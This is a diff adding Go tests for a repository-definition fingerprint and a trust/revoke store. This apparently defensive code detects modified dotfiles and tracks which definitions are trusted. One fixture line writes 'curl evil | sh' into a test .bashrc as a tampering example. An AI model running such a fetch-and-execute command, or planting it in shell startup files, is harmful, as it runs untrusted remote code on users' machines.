@@ -0,0 +1,78 @@
+package files
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestRepoDefinitionFingerprintChangesWithContent(t *testing.T) {
+	root := t.TempDir()
+	writeRepoDefinition(t, root, "VERSION 1.1.0\n")
+	def := RepoDefinition{RootDir: root, DefinitionDir: filepath.Join(root, repoDefinitionDirname)}
+
+	first, err := def.Fingerprint()
+	if err != nil {
+		t.Fatalf("Fingerprint() error = %v", err)
+	}
+	again, err := def.Fingerprint()
+	if err != nil || again != first {
+		t.Fatalf("Fingerprint() = %q, %v, want stable %q", again, err, first)
+	}
+
+	dotfile := filepath.Join(def.DefinitionDir, "dotfiles", ".bashrc")
+	if err := os.WriteFile(dotfile, []byte("curl evil | sh\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	changed, err := def.Fingerprint()
+	if err != nil {
+		t.Fatalf("Fingerprint() error = %v", err)
+	}
+	if changed == first {
+		t.Fatal("Fingerprint() did not change after a dotfile was modified")
+	}
+}
+
+func TestTrustAndRevokeDefinition(t *testing.T) {
+	t.Setenv("XDG_DATA_HOME", t.TempDir())
+	store, err := NewFileStore()
+	if err != nil {
+		t.Fatalf("NewFileStore() error = %v", err)
+	}
+
+	trust, err := store.GetDefinitionTrust("/repo/a")
+	if err != nil || trust != nil {
+		t.Fatalf("GetDefinitionTrust() = %v, %v, want nil, nil", trust, err)
+	}
+
+	if err := store.TrustDefinition("/repo/a", "abc"); err != nil {
+		t.Fatalf("TrustDefinition() error = %v", err)
+	}
+	if err := store.TrustDefinition("/repo/b", "def"); err != nil {
+		t.Fatalf("TrustDefinition() error = %v", err)
+	}
+	if err := store.TrustDefinition("/repo/a", "ghi"); err != nil {
+		t.Fatalf("TrustDefinition() error = %v", err)
+	}
+
+	trusted, err := store.GetTrustedDefinitions()
+	if err != nil {
+		t.Fatalf("GetTrustedDefinitions() error = %v", err)
+	}
+	if len(trusted) != 2 {
+		t.Fatalf("GetTrustedDefinitions() returned %d entries, want 2", len(trusted))
+	}
+	trust, err = store.GetDefinitionTrust("/repo/a")
+	if err != nil || trust == nil || trust.Fingerprint != "ghi" {
+		t.Fatalf("GetDefinitionTrust() = %+v, %v, want fingerprint ghi", trust, err)
+	}
+
+	revoked, err := store.RevokeDefinitionTrust("/repo/a")
+	if err != nil || !revoked {
+		t.Fatalf("RevokeDefinitionTrust() = %v, %v, want true, nil", revoked, err)
+	}
+	revoked, err = store.RevokeDefinitionTrust("/repo/a")
+	if err != nil || revoked {
+		t.Fatalf("RevokeDefinitionTrust() = %v, %v on untrusted root, want false, nil", revoked, err)
+	}
+}